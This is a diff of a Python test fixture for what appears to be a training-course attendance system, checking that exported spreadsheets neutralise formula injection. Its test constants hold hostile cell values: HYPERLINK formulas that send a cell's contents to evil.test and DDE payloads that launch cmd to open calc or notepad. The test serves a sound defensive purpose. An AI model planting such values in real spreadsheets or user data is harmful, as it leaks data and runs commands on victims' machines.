@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from models.attendance import Inspector, open_session, record_spot_check
 from models.audit import Channel
@@ -36,7 +36,9 @@ INSTITUTION = "lp-xinyuan"
 # What people typed, each as a spreadsheet would run it.
 COURSE_NAME = '=HYPERLINK("http://evil.test/?"&E5,"核验")'  # the course file's name
 OCCUPATION = "@SUM(1+1)*cmd|' /C calc'!A0"  # the course file's occupation
-LEVEL = "#N/A"  # openpyxl would store it as an error value
+# openpyxl would store it as an error value. No import takes it (a level must be one of the
+# five grades), but a row from before that check may carry any text: it is written in by hand.
+LEVEL = "#N/A"
 ADDRESS = "-2+3+cmd|' /C notepad'!A0"  # the course file's address
 DESCRIPTION = "＝HYPERLINK(\"http://evil.test\")"  # full-width ＝, as a Chinese IME types it
 CERTIFICATE = '=HYPERLINK("http://x.test/"&E5,"核验")'  # 结业 <voucher> <certificate no.>
@@ -65,7 +67,7 @@ def hostile_class(runner, wechat, services, sessions, clock, tmp_path) -> Scene:
     other dropped out by the bureau (a hostile reason); an inspector's hostile notes."""
     row = {"code": CODE, "institution": INSTITUTION, "category": "construction",
            "name": COURSE_NAME, "occupation": OCCUPATION, "certificate_kind": "培训合格证书",
-           "certificate_level": LEVEL, "theory_hours": "4", "practice_hours": "4",
+           "theory_hours": "2", "practice_hours": "6",
            "capacity": "20", "township": "罗雄街道", "address": ADDRESS,
            "first_day": "2026-11-25", "session_days": "1", "daily": "08:00-12:00;13:00-17:00",
            "description": DESCRIPTION}
@@ -78,6 +80,8 @@ def hostile_class(runner, wechat, services, sessions, clock, tmp_path) -> Scene:
     path.write_text(out.getvalue(), encoding="utf-8")
     result = runner.invoke(args=["courses", "import", str(path)])
     assert result.exit_code == 0, result.output
+    with sessions.begin() as db:
+        db.execute(update(Course).where(Course.code == CODE).values(certificate_level=LEVEL))
 
     staff = staff_member(services, institution_code=INSTITUTION, openid="o-hostile-staff",
                          now=clock.now())
